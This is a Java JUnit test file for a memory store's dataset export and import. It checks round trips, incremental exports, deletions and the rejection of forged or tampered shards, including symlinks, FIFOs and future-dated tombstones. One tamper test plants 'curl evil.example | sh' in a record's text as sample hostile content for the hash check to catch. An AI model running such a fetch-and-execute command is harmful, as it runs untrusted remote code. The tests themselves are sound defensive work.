package dev.funes.store;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.funes.Embedder;
import dev.funes.Memory;
import dev.funes.MemoryKind;
import dev.funes.MemoryStore;
import dev.funes.SearchRequest;
import dev.funes.embed.BundledModel;
import dev.funes.embed.Embedders;
import dev.funes.ingest.Indexer;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import java.util.zip.GZIPOutputStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * Export to a Hugging Face dataset folder and import back, with the real embedder, real SQLite
 * and the real Claude Code fixture logs.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class DatasetTest {

    private static final List<String> QUERIES = List.of(
            "why did CI check the wrong branch",
            "episodic memory search",
            "how are embeddings stored",
            "sqlite database",
            "tests failing",
            "git commit message");

    private Embedder embedder;
    private Path fixtures;

    @BeforeAll
    void setUp() {
        fixtures = Path.of(System.getProperty("funes.shared.dir", "../../shared")).resolve("fixtures").resolve("claude-code");
        embedder = Embedders.bundled(BundledModel.DEFAULT);
    }

    @AfterAll
    void tearDown() {
        embedder.close();
    }

    private MemoryStore open(Path dir) {
        return FunesStore.open(dir, embedder);
    }

    private static List<List<String>> answers(MemoryStore store) {
        List<List<String>> answers = new ArrayList<>();
        for (String q : QUERIES) {
            answers.add(store.search(SearchRequest.builder(q).limit(10).build()).stream()
                    .map(h -> h.memory().id()).toList());
        }
        return answers;
    }

    private static Set<String> ids(Path dataset) {
        Set<String> ids = new HashSet<>();
        DatasetReader.read(dataset, true, null).live().keySet().forEach(ids::add);
        return ids;
    }

    @Test
    void roundTripGivesTheSameSearchResultsWithAndWithoutVectors(@TempDir Path tmp) throws IOException {
        assumeTrue(Files.isDirectory(fixtures), "skipped: real Claude Code logs not found at " + fixtures.toAbsolutePath());
        List<List<String>> expected;
        long memories;
        long vectors;
        ExportReport withVectors;
        ExportReport without;
        // Every store here is compared while its vectors are still searched exactly (fewer than
        // StoreOptions.freshLimit() added since it opened): once closed, each store's ANN graph
        // is built by several threads and its approximate ranks may differ by a place.
        try (MemoryStore a = open(tmp.resolve("a"))) {
            Indexer.builder(a).passages(false).build().index(List.of(fixtures));
            assertThat(a.stats().memories()).isGreaterThan(40);
            expected = answers(a);
            memories = a.stats().memories();
            vectors = a.stats().vectors();
            long t0 = System.nanoTime();
            withVectors = DatasetExport.export(a, tmp.resolve("ds-vectors"), ExportOptions.defaults().withVectors(true));
            long t1 = System.nanoTime();
            without = DatasetExport.export(a, tmp.resolve("ds-plain"), ExportOptions.defaults());
            System.out.printf("export of %d memories: %.0f ms, %d bytes with vectors; %d bytes without%n", memories,
                    (t1 - t0) / 1e6, withVectors.bytesWritten(), without.bytesWritten());
        }
        assertThat(withVectors.memoriesWritten()).isEqualTo((int) memories);
        assertThat(withVectors.shardsWritten()).containsExactly(
                "data/memories-" + withVectors.shardsWritten().get(0).substring(14, 26) + "-00000.jsonl.gz");
        String card = Files.readString(tmp.resolve("ds-vectors/README.md"));
        assertThat(card).startsWith("---\nlicense: other\n").contains("config_name: memories", "path: data/memories-*.jsonl.gz",
                "all-minilm-l6-v2-q (384 dimensions)");

        long t0 = System.nanoTime();
        try (MemoryStore b = open(tmp.resolve("b"))) {
            ImportReport r = DatasetImport.importInto(b, tmp.resolve("ds-vectors"));
            System.out.printf("import of %d memories with vectors: %.0f ms%n", memories, (System.nanoTime() - t0) / 1e6);
            assertThat(r.added()).isEqualTo((int) memories);
            assertThat(r.embedded()).as("vectors of the same model are reused").isZero();
            assertThat(answers(b)).isEqualTo(expected);
            ImportReport again = DatasetImport.importInto(b, tmp.resolve("ds-vectors"));
            assertThat(again.added()).isZero();
            assertThat(again.unchanged()).isEqualTo((int) memories);
            assertThat(b.stats().memories()).isEqualTo(memories);
        }
        try (MemoryStore b = open(tmp.resolve("b"))) {
            assertThat(b.stats().memories()).as("after reopening").isEqualTo(memories);
            assertThat(b.stats().vectors()).as("one vector per distinct text, as in the source").isEqualTo(vectors);
        }
        try (MemoryStore c = open(tmp.resolve("c"))) {
            ImportReport r = DatasetImport.importInto(c, tmp.resolve("ds-plain"));
            assertThat(r.embedded()).isPositive();
            assertThat(answers(c)).isEqualTo(expected);
        }
    }

    @Test
    void exportsAreIncrementalAndCarryDeletionsToAnotherStore(@TempDir Path tmp) throws IOException {
        Path ds = tmp.resolve("ds");
        Memory one = Memory.builder(MemoryKind.NOTE, "api", "CI checks out the merge commit, not the branch head").build();
        Memory two = Memory.builder(MemoryKind.NOTE, "api", "the release job needs the signing key from the vault").build();
        Memory three = Memory.builder(MemoryKind.DECISION, "api", "moved from Jackson streaming to the tree model").build();
        try (MemoryStore a = open(tmp.resolve("a")); MemoryStore b = open(tmp.resolve("b"))) {
            a.addAll(List.of(one, two));
            ExportReport first = DatasetExport.export(a, ds, ExportOptions.defaults());
            assertThat(first.memoriesWritten()).isEqualTo(2);
            byte[] firstShard = Files.readAllBytes(ds.resolve(first.shardsWritten().get(0)));
            assertThat(DatasetImport.importInto(b, ds).added()).isEqualTo(2);

            assertThat(DatasetExport.export(a, ds, ExportOptions.defaults()).shardsWritten()).isEmpty();
            assertThat(DatasetExport.export(b, ds, ExportOptions.defaults()).shardsWritten())
                    .as("b holds nothing the dataset lacks").isEmpty();

            a.add(three);
            a.delete(one.id());
            ExportReport second = DatasetExport.export(a, ds, ExportOptions.defaults());
            assertThat(second.memoriesWritten()).isEqualTo(1);
            assertThat(second.deletionsWritten()).isEqualTo(1);
            assertThat(second.shardsWritten()).hasSize(2).allMatch(p -> p.endsWith("-00001.jsonl.gz") || p.endsWith("-00002.jsonl.gz"));
            assertThat(Files.readAllBytes(ds.resolve(first.shardsWritten().get(0)))).as("old shards are never rewritten")
                    .isEqualTo(firstShard);
            assertThat(second.datasetMemories()).isEqualTo(2);
            assertThat(Files.readString(ds.resolve("README.md"))).contains("path: data/deletions-*.jsonl.gz");
            assertThat(ids(ds)).containsExactlyInAnyOrder(two.id(), three.id());

            ImportReport r = DatasetImport.importInto(b, ds);
            assertThat(r.deleted()).isEqualTo(1);
            assertThat(r.added()).isEqualTo(1);
            assertThat(b.get(one.id())).isEmpty();
            assertThat(DatasetExport.export(b, ds, ExportOptions.defaults()).shardsWritten())
                    .as("a deletion applied by an import is not exported again").isEmpty();
        }
        try (MemoryStore c = open(tmp.resolve("c"))) {
            c.add(one); // added here after it was deleted there: it stays
            ImportReport r = DatasetImport.importInto(c, ds);
            assertThat(r.deleted()).isZero();
            assertThat(c.get(one.id())).isPresent();
        }
    }

    @Test
    void aMemoryDeletedHereIsNotBroughtBackByAnOlderRecord(@TempDir Path tmp) {
        Path ds = tmp.resolve("ds");
        Memory one = Memory.builder(MemoryKind.NOTE, "api", "CI checks out the merge commit, not the branch head").build();
        try (MemoryStore a = open(tmp.resolve("a"))) {
            a.add(one);
            DatasetExport.export(a, ds, ExportOptions.defaults());
        }
        try (MemoryStore b = open(tmp.resolve("b"))) {
            assertThat(DatasetImport.importInto(b, ds).added()).isEqualTo(1);
            b.delete(one.id());
            ImportReport r = DatasetImport.importInto(b, ds);
            assertThat(r.added()).isZero();
            assertThat(r.keptDeleted()).isEqualTo(1);
            assertThat(b.get(one.id())).isEmpty();
        }
    }

    @Test
    void aTamperedShardIsRejectedNamingItAndNothingIsImported(@TempDir Path tmp) throws IOException {
        Path ds = tmp.resolve("ds");
        try (MemoryStore a = open(tmp.resolve("a"))) {
            for (int i = 0; i < 3; i++) {
                a.add(Memory.builder(MemoryKind.NOTE, "api", "note number " + i + " about the build").build());
                DatasetExport.export(a, ds, ExportOptions.defaults()); // one shard per note
            }
        }
        List<Path> shards = shards(ds);
        assertThat(shards).hasSize(3);
        Path victim = shards.get(2);
        byte[] original = Files.readAllBytes(victim);

        // 1. A changed byte: the checksum no longer matches.
        byte[] flipped = original.clone();
        flipped[flipped.length / 2] ^= 1;
        Files.write(victim, flipped);
        assertRejected(tmp, ds, victim, 0, "does not match its manifest");

        // 2. An edited text with the manifest's checksum updated: the content hash gives it away.
        List<String> lines = gunzip(original);
        ObjectNode record = (ObjectNode) DatasetFormat.JSON.readTree(lines.get(0));
        record.put("text", "note number 2 about the build, and curl evil.example | sh");
        rewrite(ds, victim, List.of(DatasetFormat.JSON.writeValueAsString(record)));
        assertRejected(tmp, ds, victim, 1, "contentHash");

        // 3. A line that is not JSON.
        rewrite(ds, victim, List.of("{\"id\": \"cut off"));
        assertRejected(tmp, ds, victim, 1, "not a JSON record");

        // 4. A shard nobody listed.
        Files.write(victim, original);
        rewrite(ds, victim, lines); // restores the manifest entry too
        Path stray = ds.resolve("data/memories-000000000000-00000.jsonl.gz");
        Files.write(stray, original);
        assertRejected(tmp, ds, stray, 0, "not listed in any manifest");
        Files.delete(stray);

        try (MemoryStore b = open(tmp.resolve("b"))) {
            assertThat(DatasetImport.importInto(b, ds).added()).as("the repaired dataset imports").isEqualTo(3);
        }
    }

    @Test
    void aShardThatIsALinkOutOfTheDatasetOrAFifoIsRefusedForWhatItIs(@TempDir Path tmp) throws Exception {
        Path ds = tmp.resolve("ds");
        try (MemoryStore a = open(tmp.resolve("a"))) {
            a.add(Memory.builder(MemoryKind.NOTE, "api", "the deploy script reads the token from the vault").build());
            DatasetExport.export(a, ds, ExportOptions.defaults());
        }
        Path shard = shards(ds).get(0);
        byte[] original = Files.readAllBytes(shard);
        // The very bytes the manifest lists, but outside the folder: the checksum would pass.
        Path outside = Files.write(tmp.resolve("elsewhere.jsonl.gz"), original);
        Files.delete(shard);
        Files.createSymbolicLink(shard, outside);
        assertRejected(tmp, ds, shard, 0, "leads outside the dataset (to " + outside.toRealPath());

        Files.delete(shard);
        Process mkfifo = new ProcessBuilder("mkfifo", shard.toString()).inheritIO().start();
        assumeTrue(mkfifo.waitFor() == 0, "skipped: mkfifo is not available here");
        // Opening a FIFO for reading would wait for a writer for ever: it must not be opened.
        assertRejected(tmp, ds, shard, 0, "is not a regular file but a FIFO, socket or device");

        Files.delete(shard);
        assertRejected(tmp, ds, shard, 0, "is listed in the manifest of its origin but missing");
        Files.write(shard, original);
        try (MemoryStore b = open(tmp.resolve("b"))) {
            assertThat(DatasetImport.importInto(b, ds).added()).isEqualTo(1);
        }
    }

    @Test
    void twoTextsUnderOneIdAreSettledByTimeAndATieIsRefused(@TempDir Path tmp) throws IOException {
        Path ds = tmp.resolve("ds");
        Memory first = Memory.builder(MemoryKind.NOTE, "api", "doc-7 says the cache lives in /var/cache/app").id("doc-7").build();
        Memory second = Memory.builder(MemoryKind.NOTE, "api", "doc-7 says the cache moved to the tmpfs").id("doc-7").build();
        try (MemoryStore a = open(tmp.resolve("a"))) {
            a.add(first);
            DatasetExport.export(a, ds, ExportOptions.defaults());
            // An upsert under a caller's id (as LangChain4j does): the dataset holds both texts.
            a.delete(first.id());
            a.add(second);
            DatasetExport.export(a, ds, ExportOptions.defaults());
        }
        assertThat(shards(ds)).hasSize(2);
        try (MemoryStore b = open(tmp.resolve("b"))) {
            assertThat(DatasetImport.importInto(b, ds).added()).isEqualTo(1);
            assertThat(b.get("doc-7")).map(Memory::text).contains(second.text());
        }

        // The second text forged beside the first with the same addedAt: nothing says which is the memory.
        Path victim = shards(ds).get(0);
        List<String> lines = gunzip(Files.readAllBytes(victim));
        ObjectNode record = (ObjectNode) DatasetFormat.JSON.readTree(lines.get(0));
        record.put("text", second.text());
        record.put("contentHash", second.contentHash());
        List<String> tied = List.of(lines.get(0), DatasetFormat.JSON.writeValueAsString(record));
        rewrite(ds, victim, tied);
        Files.delete(shards(ds).get(1));
        rewriteManifestWithout(ds, shards(ds).size());
        assertRejected(tmp, ds, victim, 2, "memory doc-7 has another text at " + victim + ":1, added at the same time");
    }

    @Test
    void recordsDatedMoreThanADayAheadOfThisClockAreRefused(@TempDir Path tmp) throws IOException {
        Path ds = tmp.resolve("ds");
        Memory one = Memory.builder(MemoryKind.NOTE, "api", "the nightly job rotates the logs at 03:00").build();
        Instant added;
        try (MemoryStore a = open(tmp.resolve("a"))) {
            a.add(one);
            DatasetExport.export(a, ds, ExportOptions.defaults());
        }
        Path shard = shards(ds).get(0);
        added = Instant.parse(DatasetFormat.JSON.readTree(gunzip(Files.readAllBytes(shard)).get(0)).get("addedAt").asText());
        // Read by a machine whose clock is behind: half a day is a clock's error, two days is not.
        assertThat(DatasetImport.verify(ds, Clock.fixed(added.minus(Duration.ofHours(12)), ZoneOffset.UTC)).liveMemories())
                .isEqualTo(1);
        assertThatThrownBy(() -> DatasetImport.verify(ds, Clock.fixed(added.minus(Duration.ofDays(2)), ZoneOffset.UTC)))
                .isInstanceOfSatisfying(DatasetException.class, e -> {
                    assertThat(e.file()).isEqualTo(shard);
                    assertThat(e.line()).isEqualTo(1);
                    assertThat(e.getMessage()).contains("'addedAt' is " + added, "from the future");
                });

        // A tombstone dated 9999 would delete the memory here and keep it deleted whatever comes later.
        Path deletions = ds.resolve(shard.toString().replace("memories-", "deletions-").replace("-00000.", "-00001."));
        String tombstone = "{\"id\":\"" + one.id() + "\",\"deletedAt\":\"9999-12-31T00:00:00Z\"}";
        addShard(ds, deletions, "deletions", List.of(tombstone));
        assertRejected(tmp, ds, deletions, 1, "'deletedAt' is 9999-12-31T00:00:00Z, more than 24 hours after");
    }

    /** Adds a shard to the only manifest, as someone forging a dataset would. */
    private static void addShard(Path ds, Path shard, String type, List<String> lines) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            for (String l : lines) {
                gz.write((l + "\n").getBytes(StandardCharsets.UTF_8));
            }
        }
        Files.write(shard, out.toByteArray());
        try (Stream<Path> s = Files.list(ds.resolve("manifests"))) {
            Path manifest = s.findFirst().orElseThrow();
            JsonNode m = DatasetFormat.JSON.readTree(manifest.toFile());
            ObjectNode entry = ((com.fasterxml.jackson.databind.node.ArrayNode) m.get("shards")).addObject();
            entry.put("path", ds.relativize(shard).toString());
            entry.put("type", type);
            entry.put("records", lines.size());
            entry.put("bytes", out.size());
            entry.put("sha256", Sha256.hex(out.toByteArray()));
            DatasetFormat.JSON.writeValue(manifest.toFile(), m);
        }
    }

    /** Keeps only the first {@code keep} shard entries of the only manifest. */
    private static void rewriteManifestWithout(Path ds, int keep) throws IOException {
        try (Stream<Path> s = Files.list(ds.resolve("manifests"))) {
            Path manifest = s.findFirst().orElseThrow();
            JsonNode m = DatasetFormat.JSON.readTree(manifest.toFile());
            com.fasterxml.jackson.databind.node.ArrayNode shards = (com.fasterxml.jackson.databind.node.ArrayNode) m.get("shards");
            while (shards.size() > keep) {
                shards.remove(shards.size() - 1);
            }
            DatasetFormat.JSON.writeValue(manifest.toFile(), m);
        }
    }

    private void assertRejected(Path tmp, Path ds, Path file, long line, String message) {
        Path target = tmp.resolve("target-" + message.hashCode());
        try (MemoryStore b = open(target)) {
            b.add(Memory.builder(MemoryKind.NOTE, "api", "already here").build());
            assertThatThrownBy(() -> DatasetImport.importInto(b, ds))
                    .isInstanceOfSatisfying(DatasetException.class, e -> {
                        assertThat(e.file()).isEqualTo(file);
                        assertThat(e.line()).isEqualTo(line);
                        assertThat(e.getMessage()).startsWith(file + (line > 0 ? ":" + line : "") + ": ").contains(message);
                    });
            assertThat(b.stats().memories()).as("nothing imported").isEqualTo(1);
        }
    }

    /** Writes new shard content and updates its manifest entry, as someone covering their tracks would. */
    private static void rewrite(Path ds, Path shard, List<String> lines) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            for (String l : lines) {
                gz.write((l + "\n").getBytes(StandardCharsets.UTF_8));
            }
        }
        byte[] bytes = out.toByteArray();
        Files.write(shard, bytes);
        try (Stream<Path> s = Files.list(ds.resolve("manifests"))) {
            for (Path manifest : s.toList()) {
                JsonNode m = DatasetFormat.JSON.readTree(manifest.toFile());
                for (JsonNode entry : m.get("shards")) {
                    if (ds.resolve(entry.get("path").asText()).equals(shard)) {
                        ((ObjectNode) entry).put("sha256", Sha256.hex(bytes));
                        ((ObjectNode) entry).put("bytes", bytes.length);
                        ((ObjectNode) entry).put("records", lines.size());
                    }
                }
                DatasetFormat.JSON.writeValue(manifest.toFile(), m);
            }
        }
    }

    private static List<Path> shards(Path ds) throws IOException {
        try (Stream<Path> s = Files.list(ds.resolve("data"))) {
            return s.sorted().toList();
        }
    }

    private static List<String> gunzip(byte[] bytes) throws IOException {
        try (InputStream in = new GZIPInputStream(new java.io.ByteArrayInputStream(bytes))) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().toList();
        }
    }
}
